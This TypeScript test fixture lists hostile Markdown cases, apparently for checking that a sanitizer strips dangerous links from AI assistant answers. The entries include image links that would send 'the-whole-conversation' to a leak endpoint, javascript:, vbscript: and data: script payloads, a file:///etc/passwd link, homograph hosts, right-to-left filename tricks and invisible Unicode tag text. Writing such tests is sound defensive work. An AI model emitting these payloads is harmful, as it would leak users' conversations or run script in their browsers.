import type { HostileCase } from './hostile-answers.ts';

const secret = 'the-whole-conversation';

/** Links and pictures in Markdown, and addresses that hide where they lead. */
export function hostileAddresses(origin: string): HostileCase[] {
  const leak = `${origin}/leak?text=${secret}`;
  const host = new URL(origin).host;
  const data = 'data:image/svg+xml,<svg%20onload=alert(1)>';
  return [
    ['picture', `![A cat](${leak})`, '1 picture'],
    ['picture with a title', `![A cat](${leak} "title ${secret}")`, '1 picture'],
    ['picture in angle brackets', `![A cat](<${leak}>)`, '1 picture'],
    ['picture without a name', `Look: ![](${leak})`, '1 picture'],
    ['picture by reference', `![A cat][cat]\n\n[cat]: ${leak}`, '1 picture'],
    ['picture by collapsed reference', `![cat][]\n\n[cat]: ${leak}`, '1 picture'],
    ['picture by its name alone', `![cat]\n\n[cat]: ${leak}`, '1 picture'],
    ['picture whose reference comes first', `[cat]: ${leak}\n\nThen ![a][cat] and ![b][cat].`, '2 pictures'],
    ['picture from the host of the page', `![x](/leak?text=${secret}) ![y](leak.png)`, '2 pictures'],
    ['picture without a scheme', `![x](//${host}/leak?text=${secret})`, '1 picture'],
    ['picture behind backslashes', `![x](\\\\\\\\${host}\\\\leak)`, '1 picture'],
    ['picture in a link', `[![A cat](${leak})](${leak})`, '1 picture'],
    ['picture in strong in a link', `[see **![A cat](${leak})**](${leak})`, '1 picture'],
    ['picture in the name of a picture', `![a ![b](${leak}) c](${leak})`, '1 picture'],
    ['picture as data', `![x](${data})`, '1 picture'],
    ['picture in emphasis', `***![x](${leak})*** ~~![y](${leak})~~`, '2 pictures'],
    ['many pictures', `![x](${leak})\n`.repeat(40), '40 pictures'],
    ['link', `[Read more](${leak})`],
    ['link with the conversation in its path', `[Read more](${origin}/${secret}/${'x'.repeat(500)})`],
    ['link with the conversation in its fragment', `[Read more](${origin}/#${secret})`],
    ['link with the conversation in its host', `[Read more](http://${secret}.leak.invalid/)`],
    ['link with the conversation before the @', `[Read more](http://${secret}:${secret}@${host}/)`],
    ['link by reference', `[Read more][1]\n\n[1]: ${leak} "${secret}"`],
    ['definition that nothing uses', `Hello.\n\n[unused]: ${leak}`],
    ['definition over lines', `[a]:\n  ${leak}\n  "title"\n\n[a]`],
    ['definition with a bad scheme', `[click]: javascript:fetch('${leak}')\n\n[click]`, '1 link'],
    ['link whose words are another address', `[https://bank.example/](${leak})`],
    ['link of words without any', `[](${leak})[ ](${leak})`],
    ['autolink', `<${leak}>`],
    ['bare address', `See ${leak} for more.`],
    ['bare address by www', `See www.leak.invalid/${secret} for more.`],
    ['bare address in brackets', `(${leak}) [${leak}] "${leak}"`],
    ['mail address', `Write to <${secret}@leak.invalid> or ${secret}@leak.invalid`],
    ['mail with a text', `[Mail](mailto:a@leak.invalid?body=${secret})`],
    ['telephone', `[Call](tel:+4912345678) or +49 123 45678 or 555-0199`, '1 link'],
    ['message', `[Text](sms:+4912345678?body=${secret})`, '1 link'],
    ['script', `[Click](javascript:fetch('${origin}'))`, '1 link'],
    ['script in capitals', '[Click](JaVaScRiPt:alert%281%29)', '1 link'],
    ['script as an autolink', '<javascript:alert(1)>', '1 link'],
    ['script behind an entity', '[Click](&#106;avascript:alert)', '1 link'],
    ['script behind a hexadecimal entity', '[Click](&#x6A;avascript&colon;alert)', '1 link'],
    ['script broken by a tab', '[Click](java&Tab;script:alert)', '1 link'],
    ['script broken by a line', '[Click](java&NewLine;script&#58;alert)', '1 link'],
    ['script behind a control character', '[Click](&#1;javascript:alert) [or](\u0001javascript:alert)', '1 link'],
    ['script as a picture', '![x](javascript:alert)', '1 picture'],
    ['visual basic', '[Click](vbscript:msgbox)', '1 link'],
    ['data', `[Click](data:text/html,<script>location='${origin}'</script>)`, '1 link'],
    ['data in base 64', '[Click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '1 link'],
    ['blob', `[Click](blob:${origin}/0b4d1c3e-aaaa-bbbb-cccc-0123456789ab)`, '1 link'],
    ['file', '[Click](file:///etc/passwd)', '1 link'],
    ['socket', `[Click](ws://${host}/${secret})`, '1 link'],
    ['app of the device', `[Click](intent://leak/#Intent;S.text=${secret};end)`, '1 link'],
    ['page source', `[Click](view-source:${leak}) [Look](about:blank) [Set](chrome://settings)`, '3 links'],
    ['stun', `[Click](stun:${host}) <stun:${host}> <magnet:?xt=${secret}>`, '3 links'],
    ['homograph', '[apple](https://\u0430\u0440\u0440\u04CF\u0435.com/)'],
    ['homograph as an autolink', '<https://p\u0430yp\u0430l.com/login>'],
    ['homograph in punycode', '[apple](https://xn--80ak6aa92e.com/)'],
    ['wide letters', '[x](https://\uFF45\uFF56\uFF49\uFF4C.invalid/)'],
    ['ideographic full stop', '[x](https://bank.example\u3002leak.invalid/)'],
    ['slash that is none', `[x](https://bank.example\u2215login.leak.invalid/)`],
    ['host as a number', '[x](http://2130706433/) [y](http://0x7f.1/)'],
    ['address turned around', `[photo](${origin}/\u202Egnp.exe)`],
    ['bare address turned around', `${origin}/\u202Egnp.exe\u202C and on`],
    ['isolates in an address', `[x](${origin}/\u2067abc\u2069\u200F)`],
    ['address with nothing in it that is seen', `[x](${origin}/\u200B\u200C\u200D\u2060\uFEFF\u00AD\u180E)`],
    ['zero-width joiner in a host', '[x](https://ba\u200Dnk.example/)'],
    ['tag characters in an address', `[x](${origin}/${[...secret].map(toTag).join('')})`],
    ['variation selectors in an address', `[x](${origin}/a\uFE0F\u{E0101}\u{E0155})`],
    ['Arabic and Hebrew in an address', `[x](${origin}/\u0645\u0631/\u05D0\u05D1?a=\u0645&b=leak.invalid)`],
    ['half a character in an address', `[x](${origin}/\uD800a\uDC00) ![y](${origin}/\uDFFF)`, '1 picture'],
    ['no address at all', '[x](http://[bad) [y](http://) [z](https://exa mple/)'],
    ['very long address', `[x](${origin}/${'long/'.repeat(4000)})`],
  ];
}

/** The invisible twin of an ASCII character (Unicode tags), a way to hide a text in a text. */
function toTag(character: string): string {
  return String.fromCodePoint(0xe0000 + (character.codePointAt(0) ?? 0));
}
